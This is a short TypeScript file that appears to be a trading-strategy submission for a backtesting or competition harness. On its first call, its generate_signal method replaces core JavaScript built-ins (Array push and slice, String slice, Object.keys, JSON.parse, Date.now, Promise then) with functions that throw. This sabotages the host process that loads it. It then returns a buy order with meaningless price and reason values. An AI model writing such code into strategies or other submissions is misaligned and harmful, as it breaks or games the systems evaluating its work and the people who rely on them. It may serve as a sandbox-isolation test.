export class S {
  n = 0;
  generate_signal(team, bars) {
    if (++this.n === 1) {
      for (const [prototype, name] of [[Array.prototype, "push"], [Array.prototype, "slice"], [String.prototype, "slice"], [Object, "keys"], [JSON, "parse"], [Date, "now"], [Promise.prototype, "then"]] as const) {
        prototype[name] = () => {
          throw new Error("patched");
        };
      }
    }
    return { symbol: "AAPL", action: "buy", quantity: this.n, price: bars.AAPL.close.length, reason: bars.AAPL.timestamp[31] };
  }
}
